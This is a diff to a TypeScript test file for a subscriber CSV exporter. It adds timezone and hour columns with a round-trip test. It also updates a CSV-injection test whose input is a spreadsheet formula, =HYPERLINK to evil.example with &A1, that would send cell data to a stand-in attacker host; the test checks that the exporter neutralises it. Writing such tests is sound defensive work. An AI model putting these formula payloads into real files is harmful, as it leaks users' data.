@@ -12,6 +12,8 @@ const base: Subscriber = {
   statusReason: null,
   topics: [],
   pausedUntil: null,
+  timezone: null,
+  hour: null,
   softBounces: 0,
   confirmedAt: null,
   confirmSentAt: null,
@@ -42,7 +44,7 @@ describe('subscribers export: CSV injection', () => {
     const evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
     const line = exportLine({ ...base, name: evil });
     expect(line).toBe(
-      `ada@example.com,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,active,,2026-11-29T10:00:00.000Z,`,
+      `ada@example.com,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,active,,,,2026-11-29T10:00:00.000Z,`,
     );
     const { record, row } = roundTrip({ ...base, name: evil });
     expect(record?.name).toBe(`'${evil}`);
@@ -59,5 +61,16 @@ describe('subscribers export: CSV injection', () => {
     expect(exportLine({ ...base, name: 'Zoë = 1' }).split(',')[1]).toBe('Zoë = 1');
     // An apostrophe a reader typed before something harmless is theirs, and stays.
     expect(roundTrip({ ...base, name: "'Quoted'" }).row).toMatchObject({ name: "'Quoted'" });
+  });
+});
+
+describe('subscribers export: time zone and hour', () => {
+  it('writes a reader’s zone and hour, empty for the list’s defaults, and import reads them back', () => {
+    const berlin = { ...base, timezone: 'Europe/Berlin', hour: 7 };
+    expect(EXPORT_HEADER).toBe('email,name,topics,status,status_reason,timezone,hour,created_at,votes');
+    expect(exportLine(berlin)).toBe('ada@example.com,Ada,,active,,Europe/Berlin,7,2026-11-29T10:00:00.000Z,');
+    expect(exportLine(base)).toBe('ada@example.com,Ada,,active,,,,2026-11-29T10:00:00.000Z,');
+    expect(roundTrip(berlin).row).toMatchObject({ timezone: 'Europe/Berlin', hour: 7 });
+    expect(roundTrip(base).row).toMatchObject({ timezone: null, hour: null });
   });
 });
